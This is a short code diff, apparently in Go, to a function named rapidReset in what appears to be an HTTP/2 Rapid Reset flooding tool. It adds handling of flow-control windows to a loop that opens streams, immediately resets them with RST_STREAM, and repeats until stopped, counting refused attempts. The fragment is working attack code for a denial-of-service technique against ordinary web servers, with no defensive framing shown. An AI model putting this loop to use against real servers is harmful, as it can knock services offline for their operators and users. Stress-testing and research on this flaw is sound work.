@@ -41,9 +41,9 @@ func rapidReset(ctx context.Context, a *attack) {
 			return err
 		}
 		defer h.conn.Close()
-		// The answers are read and dropped. The acknowledgement of the settings is left out: the
-		// frames are written by this goroutine alone.
-		go func() { _, _ = io.Copy(io.Discard, h.conn) }()
+		// The answers are dropped, but for the windows. The acknowledgement of the settings is left
+		// out: the frames are written by this goroutine alone.
+		go func() { _ = h.answerUntil(func(http2.Frame) bool { return false }) }()
 		for ctx.Err() == nil {
 			id, err := h.open()
 			if err == nil {
@@ -51,6 +51,7 @@ func rapidReset(ctx context.Context, a *attack) {
 			}
 			if err == nil {
 				err = h.frames.WriteRSTStream(id, http2.ErrCodeCancel)
+				h.windows.forget(id)
 			}
 			if err != nil {
 				a.refused.Add(1)
